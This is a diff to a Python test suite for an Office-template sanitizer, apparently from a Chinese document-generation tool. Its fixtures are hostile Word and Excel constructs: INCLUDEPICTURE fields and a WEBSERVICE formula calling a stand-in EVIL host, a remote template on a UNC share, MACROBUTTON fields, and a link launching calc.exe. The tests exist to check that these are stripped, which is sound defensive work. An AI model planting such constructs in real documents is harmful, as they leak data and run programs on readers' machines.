@@ -8,10 +8,14 @@ ActiveX controls and OLE objects, and parts in UTF-16.
 
 from __future__ import annotations
 
+import io
 import re
+import zipfile
 
 import pytest
+from docx import Document
 from docxtpl_support import UNIT_ROWS, paragraphs_template, parts_of, with_parts
+from openpyxl import Workbook
 
 from docgen.errors import InputError, UnreadableDocumentError
 from docgen.ooxml.sanitize import sanitize_template
@@ -155,6 +159,37 @@ def test_every_fetching_field_is_defused_complex_or_simple(kind: str) -> None:
     assert kind.encode() not in document and b"fldSimple" not in document
     assert "旧结果".encode() in document and "简".encode() in document  # results stay
     assert sum("已停用取外部内容的域" in note for note in clean.notes) == 2
+
+
+def test_a_defused_field_is_not_updated_on_opening() -> None:
+    code = f' INCLUDEPICTURE "http://{EVIL}/a.png" '
+    dirty = _field(code).replace('fldCharType="begin"/>', 'fldCharType="begin" w:dirty="true"/>')
+    clean = sanitize_template(_template(f"<w:p>{dirty}</w:p>"), "域.docx")
+    # Updated on opening, the blank code would blank the result it shows too.
+    assert b"dirty" not in clean.parts["word/document.xml"]
+    assert "旧结果".encode() in clean.parts["word/document.xml"]
+
+
+def test_a_macrobutton_keeps_its_text_and_runs_nothing() -> None:
+    simple = (
+        '<w:p><w:fldSimple w:instr=" MACROBUTTON FileExit [单击此处输入单位] ">'
+        "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
+    )
+    body = f"<w:p>{_field(' MACROBUTTON ToolsMacro [单击此处输入日期] ', '')}</w:p>{simple}"
+    clean = sanitize_template(_template(body), "按钮.docx")
+    document = clean.parts["word/document.xml"].decode()
+    assert "FileExit" not in document and "ToolsMacro" not in document
+    assert "MACROBUTTON NoMacro [单击此处输入日期]" in document
+    assert 'w:instr=" MACROBUTTON NoMacro [单击此处输入单位] "' in document
+    assert sum("按钮域" in note for note in clean.notes) == 2
+    again = sanitize_template(clean.data, "按钮.docx")  # NoMacro is left as it is
+    assert not [note for note in again.notes if "按钮域" in note]
+
+
+def test_a_macrobutton_spelt_by_a_nested_field_is_refused() -> None:
+    body = NESTED_QUOTE.format(start="", spelled="MACRO", rest="BUTTON")
+    with pytest.raises(InputError, match="嵌套的 QUOTE 域拼出"):
+        sanitize_template(_template(body), "嵌套.docx")
 
 
 def test_a_hyperlink_field_stays() -> None:
@@ -343,19 +378,137 @@ def test_an_ole_object_without_a_picture_goes_whole() -> None:
     assert b"w:object" not in clean.parts["word/document.xml"]
 
 
-def test_an_embedded_office_file_stays_and_a_disguised_one_goes() -> None:
-    docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
-    kept = _ole(PREVIEW, "package", "embeddings/Doc1.docx", "Word.Document.12")
-    kept = with_parts(
-        kept,
+OFFICE_TYPES = {
+    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+}
+
+
+def _with_office_file(inner: bytes, suffix: str = "docx") -> bytes:
+    """A template embedding the Office file ``inner`` (as Word embeds one: a package part)."""
+    target = f"embeddings/Object1.{suffix}"
+    outer = _ole(PREVIEW, "package", target, "Word.Document.12")
+    kind = OFFICE_TYPES[suffix]
+    return with_parts(
+        outer,
         {
-            "[Content_Types].xml": parts_of(kept)["[Content_Types].xml"].replace(
-                b"</Types>", f'<Default Extension="docx" ContentType="{docx}"/></Types>'.encode()
-            )
+            f"word/{target}": inner,
+            "[Content_Types].xml": parts_of(outer)["[Content_Types].xml"].replace(
+                b"</Types>",
+                f'<Default Extension="{suffix}" ContentType="{kind}"/></Types>'.encode(),
+            ),
         },
     )
-    clean = sanitize_template(kept, "对象.docx")
-    assert "word/embeddings/Doc1.docx" in clean.parts and not clean.notes
+
+
+def _word_file(body: str = "", rels: str = "") -> bytes:
+    """A real Word file (python-docx's blank document) with ``body`` and relationships added."""
+    docx = Document()
+    docx.add_paragraph("附表")
+    buffer = io.BytesIO()
+    docx.save(buffer)
+    data = buffer.getvalue()
+    old = parts_of(data)
+    return with_parts(
+        data,
+        {
+            "word/document.xml": old["word/document.xml"].replace(
+                b"<w:sectPr", body.encode() + b"<w:sectPr", 1
+            ),
+            "word/_rels/document.xml.rels": old["word/_rels/document.xml.rels"].replace(
+                b"</Relationships>", rels.encode() + b"</Relationships>"
+            ),
+        },
+    )
+
+
+def _excel_file(formula: str) -> bytes:
+    book = Workbook()
+    book.active["A1"] = formula
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
+
+
+INCLUDE = (
+    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
+    f' INCLUDEPICTURE "http://{EVIL}/a.png" \\d </w:instrText></w:r><w:r><w:fldChar '
+    'w:fldCharType="separate"/></w:r><w:r><w:t>图</w:t></w:r><w:r><w:fldChar '
+    'w:fldCharType="end"/></w:r></w:p>'
+)
+LINK = '<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>网站</w:t></w:r></w:hyperlink></w:p>'
+
+
+def test_an_embedded_office_file_that_reaches_nothing_stays_as_it_was() -> None:
+    inner = _word_file(
+        LINK,
+        f'<Relationship Id="rIdWeb" Type="{REL}hyperlink" Target="https://www.gov.cn/" '
+        'TargetMode="External"/>',
+    )
+    clean = sanitize_template(_with_office_file(inner), "对象.docx")
+    assert clean.parts["word/embeddings/Object1.docx"] == inner and not clean.notes
+    assert b"OLEObject" in clean.parts["word/document.xml"]
+    clean = sanitize_template(_with_office_file(_excel_file("=SUM(1,2)"), "xlsx"), "对象.docx")
+    assert "word/embeddings/Object1.xlsx" in clean.parts and not clean.notes
+
+
+@pytest.mark.parametrize(
+    ("inner", "said"),
+    [
+        (_word_file(INCLUDE), "读取外部内容或运行命令的域"),
+        (
+            _word_file(
+                rels=f'<Relationship Id="rIdT" Type="{REL}attachedTemplate" '
+                f'Target="\\\\{EVIL}\\share\\t.dotm" TargetMode="External"/>'
+            ),
+            EVIL,
+        ),
+        (
+            _word_file(
+                LINK,
+                f'<Relationship Id="rIdWeb" Type="{REL}hyperlink" '
+                'Target="file:///C:/Windows/System32/calc.exe" TargetMode="External"/>',
+            ),
+            "calc.exe",
+        ),
+        (b"\xd0\xcf\x11\xe0" + b"\0" * 60, "无法按 Office 文件读取"),
+    ],
+    ids=["includepicture-field", "remote-template", "program-link", "not-a-package"],
+)
+def test_an_embedded_word_file_that_reaches_outside_goes_with_its_reason(
+    inner: bytes, said: str
+) -> None:
+    clean = sanitize_template(_with_office_file(inner), "对象.docx")
+    assert "word/embeddings/Object1.docx" not in clean.parts
+    assert b"OLEObject" not in clean.parts["word/document.xml"]
+    assert b'<v:imagedata r:id="rIdPrev"/>' in clean.parts["word/document.xml"]  # its picture
+    (note,) = [n for n in clean.notes if "嵌入对象" in n]
+    assert said in note and "Object1.docx" in note
+    prepare(clean.data, "对象.docx").render(UNIT_ROWS[0])
+
+
+def test_an_embedded_workbook_that_calls_the_web_goes() -> None:
+    template = _with_office_file(_excel_file(f'=WEBSERVICE("http://{EVIL}/q")'), "xlsx")
+    clean = sanitize_template(template, "对象.docx")
+    assert "word/embeddings/Object1.xlsx" not in clean.parts
+    assert any("访问网址或调用程序的公式" in note for note in clean.notes)
+    linked = parts_of(_excel_file("=1"))
+    linked["[Content_Types].xml"] = linked["[Content_Types].xml"].replace(
+        b"</Types>",
+        b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
+        b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
+    )
+    linked["xl/externalLinks/externalLink1.xml"] = b"<externalLink/>"
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for name, blob in linked.items():
+            archive.writestr(name, blob)
+    clean = sanitize_template(_with_office_file(buffer.getvalue(), "xlsx"), "对象.docx")
+    assert "word/embeddings/Object1.xlsx" not in clean.parts
+    assert any("externalLink1.xml" in note for note in clean.notes)
+
+
+def test_a_disguised_embedded_object_goes() -> None:
     disguised = sanitize_template(_ole(PREVIEW, "package", "embeddings/x.bin"), "对象.docx")
     assert "word/embeddings/x.bin" not in disguised.parts
 
